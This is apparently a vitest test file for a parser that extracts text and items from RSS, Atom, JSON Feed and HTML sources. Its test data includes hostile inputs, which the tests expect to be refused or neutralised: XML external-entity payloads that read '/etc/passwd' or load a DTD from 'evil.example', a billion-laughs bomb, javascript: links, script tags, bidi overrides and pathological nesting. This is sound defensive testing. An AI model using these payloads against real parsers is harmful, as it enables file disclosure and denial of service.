import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import fc from "fast-check";
import iconv from "iconv-lite";
import { describe, expect, test } from "vitest";
import { createSourceParser } from "../../main/adapters/sources/parser";
import type { ExtractedSource, Extraction, SourceFormat } from "../../main/domain/ports";

const FEED_URL = "https://feeds.example/path/feed.xml";

function extract(
  body: string | Uint8Array,
  options: { format?: SourceFormat; type?: string | null; url?: string } = {},
): Extraction {
  const bytes = typeof body === "string" ? new TextEncoder().encode(body) : body;
  const { format = "auto", type = null, url = FEED_URL } = options;
  return createSourceParser().extract({ bytes, contentType: type, finalUrl: url, format });
}

function extracted(...args: Parameters<typeof extract>): ExtractedSource {
  const result = extract(...args);
  if (result.kind === "unusable") throw new Error(`${result.code}: ${result.detail}`);
  // What every extraction promises.
  const { text, items } = result.source;
  let last = 0;
  for (const item of items) {
    expect(item.start).toBeGreaterThanOrEqual(last);
    expect(text.slice(item.start, item.end).split("\n")[0]).toBe(item.title);
    expect(text.slice(item.start, item.end)).not.toMatch(/\n\n|\n$/);
    last = item.end;
  }
  expect(new Set(items.map((item) => item.key)).size).toBe(items.length);
  return result.source;
}

const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`../fixtures/sources/${name}`, import.meta.url)));
const codeOf = (result: Extraction) => (result.kind === "unusable" ? result.code : "extracted");
const rss = (items: string, head = "") =>
  `<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>` +
  `<title>Feed</title><link>https://site.example/blog/</link>${head}${items}</channel></rss>`;

describe("RSS 2.0", () => {
  test("title, text, layout and spans by rule 1", () => {
    const source = extracted(
      rss(
        `<item><title>A &amp;amp; B &lt;em&gt;C&lt;/em&gt;</title><link>https://site.example/1</link><guid>g1</guid>` +
          `<pubDate>Mon, 20 Jul 2026 10:00:00 +0800</pubDate><description>short</description>` +
          `<content:encoded><![CDATA[<p>One&nbsp;line<br>and &lt;two&gt;</p><ul><li>x</li></ul><a href="/rel">l</a>]]></content:encoded></item>` +
          `<item><title>Only a title</title></item>`,
      ),
    );
    expect(source.text).toBe("Feed\n\nA & B C\nOne\u00a0line\nand <two>\nx\nl\n\nOnly a title");
    expect(source).toMatchObject({ rule: 1, encoding: "utf-8", title: "Feed", homepage: "https://site.example/blog/" });
    expect(source.items[0]).toEqual({
      key: "g1",
      title: "A & B C",
      url: "https://site.example/1",
      publishedAt: Date.UTC(2026, 6, 20, 2),
      start: 6,
      end: 36,
      links: ["https://site.example/rel"],
    });
  });

  test("a missing guid is no empty guid: neither makes items one, and both fall back to the address", () => {
    const source = extracted(
      rss(
        `<item><title>a</title><link>/1</link></item><item><title>b</title><link>/2</link><guid></guid></item>` +
          `<item><title>c</title><link>/3</link><guid isPermaLink="false"> </guid></item><item><title>d</title><guid/></item><item><title>e</title></item>`,
      ),
    );
    expect(source.items.map((item) => item.title)).toEqual(["a", "b", "c", "d", "e"]);
    expect(source.items.slice(0, 3).map((item) => item.key)).toEqual([1, 2, 3].map((n) => `https://site.example/${n}`));
    expect(source.items[3]?.key).toMatch(/^text:[0-9a-f]{16}$/);
  });

  test("a guid that is a permalink is the address, one that says it is none is not", () => {
    const source = extracted(
      rss(
        `<item><title>a</title><guid>https://site.example/a</guid></item>` +
          `<item><title>b</title><guid isPermaLink="false">https://site.example/b</guid></item>`,
      ),
    );
    expect(source.items.map((item) => item.url)).toEqual(["https://site.example/a", null]);
  });

  test("an item's key stays when another with the same address is put above it", () => {
    const item = (title: string) => `<item><title>${title}</title><link>/changes</link></item>`;
    const before = extracted(rss(item("one")));
    const after = extracted(rss(item("three") + item("two") + item("one") + item("one")));
    expect(after.items.map((one) => one.title)).toEqual(["three", "two", "one"]);
    expect(after.items[2]?.key).toBe(before.items[0]?.key);
    const later = extracted(rss(item("four") + item("three") + item("two") + item("one")));
    expect(later.items.slice(1).map((one) => one.key)).toEqual(after.items.map((one) => one.key));
  });

  test("relative links: xml:base, else the site, else where the file was read", () => {
    const item = `<item><title>a</title><link>/n/1</link><description>&lt;a href="x"&gt;x&lt;/a&gt;</description></item>`;
    expect(extracted(rss(item)).items[0]).toMatchObject({
      url: "https://site.example/n/1",
      links: ["https://site.example/blog/x"],
    });
    const based = rss(item).replace('version="2.0"', 'version="2.0" xml:base="https://base.example/b/"');
    expect(extracted(based).items[0]).toMatchObject({
      url: "https://base.example/n/1",
      links: ["https://base.example/b/x"],
    });
    const bare = rss(item).replace("<link>https://site.example/blog/</link>", "");
    expect(extracted(bare).items[0]).toMatchObject({
      url: "https://feeds.example/n/1",
      links: ["https://feeds.example/path/x"],
    });
  });

  test("links that run are no links", () => {
    const source = extracted(
      rss(
        `<item><title>a</title><link>javascript:alert(1)</link><description>&lt;a href="data:text/html,x"&gt;x&lt;/a&gt;</description></item>`,
      ),
    );
    expect(source.items[0]).toMatchObject({ url: null, links: [] });
  });

  test("no control characters, no bidi overrides, line ends all alike, no executable or hidden text", () => {
    const source = extracted(
      rss(
        `<item><title>a\u202Eb&#7;\tc\u2066</title><description><![CDATA[x\u0000]]>&lt;p&gt;1\r\n2&#x202D;&lt;script&gt;alert(1)&lt;/script&gt;` +
          `&lt;style&gt;p{}&lt;/style&gt;&lt;p hidden&gt;h&lt;/p&gt;&lt;p&gt;e\u0301 \u2028 z&lt;/p&gt;</description></item>`,
      ).replace("\u0000", ""),
    );
    expect(source.text).toBe("Feed\n\nab c\nx\n1 2\ne\u0301\nz");
  });

  test("a title in a feed may be about markup", () => {
    const source = extracted(rss(`<item><title>Why &lt;template&gt; &amp;lt;b&amp;gt; matter</title></item>`));
    expect(source.items[0]?.title).toBe("Why <template> <b> matter");
  });
});

describe("other formats", () => {
  test("Atom: a chain of xml:base, typed texts, alternate links, dates", () => {
    const source = extracted(fixture("base.atom"), { format: "atom" });
    expect(source).toMatchObject({ title: "Notes & queries", homepage: "https://a.example/notes/index.html" });
    expect(source.items[0]).toMatchObject({
      key: "urn:notes:1",
      title: "The <script> tag is three years older",
      url: "https://a.example/notes/2026/one.html?x=1&y=2#top",
      publishedAt: Date.UTC(2026, 6, 18, 8),
      links: ["https://a.example/notes/2026/one/part.html"],
    });
    expect(source.items[1]).toMatchObject({ title: "Second & last", url: "https://a.example/two" });
    expect(source.text).toContain(
      "First <paragraph> with a part.\nline 1\nline 2\n\nSecond & last\nPlain text with <b> and\na second line.",
    );
  });

  test("RSS 1.0", () => {
    const source = extracted(fixture("rss1.rdf"), { format: "rss" });
    expect(source.items).toMatchObject([
      { key: "https://r.example/n/1", publishedAt: Date.UTC(2026, 6, 16, 9) },
      { key: "https://r.example/n/2", url: "https://r.example/n/2?from=feed" },
    ]);
  });

  test("JSON Feed: numbers as ids, items without a title, broken escapes", () => {
    const source = extracted(fixture("feed11.json"), { format: "json-feed" });
    expect(source.items).toMatchObject([
      {
        key: "17",
        title: "Broken \uFFFD character",
        url: "https://j.example/n/17",
        links: ["https://j.example/home/more"],
      },
      {
        key: "x",
        title: "No title, only a text that is longer than the eighty characters that a made",
        url: "https://else.example/",
      },
    ]);
  });

  test("a page of articles: comments are not items, hidden text is not text, nothing is run", () => {
    const source = extracted(fixture("articles.html"), { format: "html", url: "https://h.example/list.html" });
    expect(source.homepage).toBe("https://h.example/notices");
    expect(source.items).toMatchObject([
      { key: "https://h.example/n/1", title: "First notice", publishedAt: Date.UTC(2026, 6, 18) },
      { key: "https://h.example/list.html#a2", title: "Second notice", url: "https://h.example/list.html#a2" },
    ]);
    expect(source.text).toBe(
      "Register — notices\n\nFirst notice\n18 July\nVisible text & more.\nA comment\nSaid by a reader.\n\nSecond notice\nleft right",
    );
  });

  test("a list of links, and menus that are none", () => {
    const source = extracted(
      `<title>L</title><nav><ul><li><a href="/m">Menu entry one</a></li></ul></nav><ul><li><a href="/n/1">The first one</a> is here.</li>` +
        `<li><a href="#">no</a></li><li>Without a link</li></ul>`,
      { url: "https://h.example/list" },
    );
    expect(source.items).toMatchObject([{ title: "The first one", url: "https://h.example/n/1" }]);
    expect(source.text).toBe("L\n\nThe first one\nThe first one is here.");
  });

  test("a headline repeated above its text is told once", () => {
    const source = extracted(
      `<title>L</title><ul><li><h3><a href="/n/1">A headline</a></h3><p>Its text.</p></li></ul>`,
    );
    expect(source.text).toBe("L\n\nA headline\nIts text.");
  });

  test("a changelog of headings", () => {
    const source = extracted(fixture("changelog.html"), { url: "https://h.example/changes" });
    expect(source.items).toMatchObject([
      { title: "Changes", url: "https://h.example/changes#top" },
      { title: "2.1 — 2026-07-14", url: "https://h.example/changes#v2.1", publishedAt: Date.UTC(2026, 6, 14) },
      { title: "2.0", url: "https://h.example/changes#v2.0" },
    ]);
    expect(source.text).toContain("2.1 — 2026-07-14\nFaster.\nSmaller.\n\n2.0\nNew.");
  });

  test("a page without any structure is one item", () => {
    const source = extracted("<title>T</title><body><p>Just text.</p>", { url: "https://h.example/p" });
    expect(source.items).toMatchObject([{ key: "https://h.example/p", title: "T" }]);
    expect(source.text).toBe("T\n\nT\nJust text.");
  });
});

describe("encodings reach the text", () => {
  test.each(["gb18030", "big5", "shift_jis", "windows-1252"])("%s by declaration", (encoding) => {
    const word = { gb18030: "𠮷原", big5: "繁體", shift_jis: "日本", "windows-1252": "“€”" }[encoding] ?? "";
    const xml = rss(`<item><title>${word}</title></item>`).replace(
      'version="1.0"',
      `version="1.0" encoding="${encoding}"`,
    );
    const source = extracted(new Uint8Array(iconv.encode(xml, encoding)), { type: "text/xml" });
    expect(source).toMatchObject({ encoding, items: [{ title: word }] });
  });
});

describe("entities (H12)", () => {
  test("1,100 ampersands and more parse", () => {
    for (const count of [1100, 50_000]) {
      const source = extracted(rss(`<item><title>a</title><description>${"&amp;".repeat(count)}</description></item>`));
      expect(source.text).toBe(`Feed\n\na\n${"&".repeat(count)}`);
    }
  });

  test("a billion laughs is refused", () => {
    expect(codeOf(extract(fixture("billion-laughs.xml")))).toBe("entity_bomb");
  });

  test.each([
    ['<!DOCTYPE rss [<!ENTITY a "b">]>', "doctype_entities"],
    ['<!DOCTYPE rss [<!ENTITY a "x &lt; y">]>', "doctype_entities"],
    ['<!doctype rss [<!entity a SYSTEM "file:///etc/passwd">]>', "doctype_entities"],
    ['<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', "doctype_entities"],
    ['<!DOCTYPE rss [<!ENTITY a "b"><!ENTITY c "&a;">]>', "entity_bomb"],
    [
      `<!-- ${"x".repeat(5000)} --><?p ?><!DOCTYPE rss [<!ELEMENT a (b)> <!-- ' --> <!ENTITY a "]>">]>`,
      "doctype_entities",
    ],
    [
      '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.example/rss-0.91.dtd">',
      "extracted",
    ],
    ["<!DOCTYPE rss [<!ELEMENT a (b)>]>", "extracted"],
  ])("%s is %s", (doctype, code) => {
    const feed = rss("<item><title>t</title></item>").replace(
      '<?xml version="1.0"?>',
      `<?xml version="1.0"?>${doctype}`,
    );
    expect(codeOf(extract(feed))).toBe(code);
  });

  test("an item may write about entities, and a document type inside is refused", () => {
    const about = rss(
      '<item><title>a</title><description><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]></description></item>',
    );
    expect(codeOf(extract(about))).toBe("extracted");
    expect(codeOf(extract(rss('<item><!DOCTYPE x [<!ENTITY a "b">]><title>a</title></item>')))).toBe(
      "doctype_entities",
    );
  });
});

describe("what cannot be used, and why", () => {
  const whole = rss("<item><title>a</title><description>text</description></item>");

  test.each([
    ["", {}, "empty"],
    [" \n ", {}, "empty"],
    ["<html><body>Error</body></html>", { format: "rss" }, "not_a_feed"],
    [whole, { format: "html" }, "not_a_page"],
    ["{}", { format: "json-feed" }, "not_a_feed"],
    ['{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[{"id":"1"', {}, "cut_short"],
    ['{"version":"https://jsonfeed.org/version/1.1",,}', {}, "malformed"],
    ["<rss></rss>", {}, "not_a_feed"],
    ["<rss><channel></channel></rss>", {}, "malformed"],
    ["<html><body><script>x</script></body></html>", {}, "no_text"],
    ["%PDF-1.7", { type: "application/pdf" }, "not_text"],
    ["a\0b", {}, "not_text"],
    [whole, { type: "text/xml; charset=klingon" }, "encoding_unsupported"],
  ] as const)("%j %j is %s", (body, options, code) => {
    expect(codeOf(extract(body, options))).toBe(code);
  });

  test("a feed cut anywhere before its end is cut short, never a shorter feed", () => {
    for (let at = whole.indexOf("<rss") + 10; at < whole.length; at += 1) {
      expect([`${at}`, codeOf(extract(whole.slice(0, at)))]).toEqual([`${at}`, "cut_short"]);
    }
    expect(codeOf(extract(`${whole}\n<!-- cached --> <?php ?>\n`))).toBe("extracted");
  });

  test("markup nested too deeply is refused before it is parsed, honest depth is not", () => {
    const deep = "<div>".repeat(501);
    expect(codeOf(extract(`<title>t</title>${deep}x`))).toBe("too_deep");
    expect(codeOf(extract(rss(`<item><title>a</title><description><![CDATA[${deep}x]]></description></item>`)))).toBe(
      "too_deep",
    );
    const honest = `${"<p>open ".repeat(3000)}<ul>${"<li>one".repeat(3000)}</ul>${"<div>".repeat(300)}${"</div>".repeat(300)}`;
    const quoted = `<script>${"<div>".repeat(900)}</script><!-- ${"<div>".repeat(900)} -->${"<br><img>".repeat(900)}`;
    expect(codeOf(extract(`<title>t</title>${honest}${quoted}`))).toBe("extracted");
  });

  test("a source made of nothing but tags is refused", () => {
    expect(codeOf(extract(`<title>t</title>${"<b>".repeat(500_001)}`))).toBe("too_complex");
    expect(
      codeOf(extract(rss(`<item><title>a</title><description>${"&lt;".repeat(500_001)}</description></item>`))),
    ).toBe("too_complex");
  });

  test.each([
    ["opened comments", "<!--".repeat(200_000)],
    ["opened tags", "<a ".repeat(300_000)],
    ["angles", "<".repeat(100_000)],
    ["deep lists", "<ul><li><a href=/x>".repeat(100_000)],
    ["feed of opened character data", `<rss><channel>${"<![CDATA[".repeat(100_000)}</channel></rss>`],
    ["feed of document types", `<rss><channel>${"<!DOCTYPE ".repeat(100_000)}</channel></rss>`],
    ["feed of instructions", `<rss/>${"<?".repeat(200_000)}`],
    ["blanks", `<title>${" ".repeat(2_000_000)}x</title>`],
    ["marks", `<h2 id=a>${"#".repeat(1_000_000)}x</h2>`],
  ])("%s take linear time", (_, body) => {
    extract(body);
    // Quadratic time on any of these is minutes: the test's own limit ends it.
  });
});

describe("determinism", () => {
  test("rule 1 is frozen: these bytes have these texts for ever, whatever a parser's next version does", () => {
    const names = ["base.atom", "rss1.rdf", "feed11.json", "articles.html", "changelog.html"];
    const all = names.map((name) => extracted(fixture(name), { url: "https://h.example/x" }));
    // When this fails, quotes in old editions would lose their places: what changed the text needs to be rule 2.
    expect(createHash("sha256").update(JSON.stringify(all)).digest("hex")).toBe(
      "b8d84bffa2b653a156fb0bb650bf2c0812889b0dc84d46fecc889940d4e532b3",
    );
  });

  const piece = fc.constantFrom(
    "<p>",
    "</p>",
    "<b>",
    "a",
    " ",
    "\n",
    "&amp;",
    "&lt;",
    "文字。",
    "<br/>",
    "<script>",
    "]]>",
    "<![CDATA[",
    "&#8238;",
    "\u202e",
    "<a href='/x'>",
    "<article>",
    "<li>",
    "<h2 id=x>",
    "<table>",
    "<pre>",
    "&bogus;",
    "<!--",
    "-->",
  );

  test("same bytes, same text; any text gives an answer and keeps its promises", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.constantFrom("rss", "html", "raw"), (pieces, kind) => {
        const inner = pieces.join("");
        const body =
          kind === "rss"
            ? rss(`<item><title>${inner}</title><description>${inner}</description></item>`)
            : kind === "html"
              ? `<title>t</title>${inner}`
              : inner;
        const first = extract(body);
        expect(extract(body)).toEqual(first);
        if (first.kind === "extracted") {
          expect(first.source.text).not.toMatch(/[^\P{Cc}\n]|[\u202A-\u202E\u2066-\u2069]/u);
          extracted(body);
        }
      }),
      { numRuns: 400 },
    );
  });
});
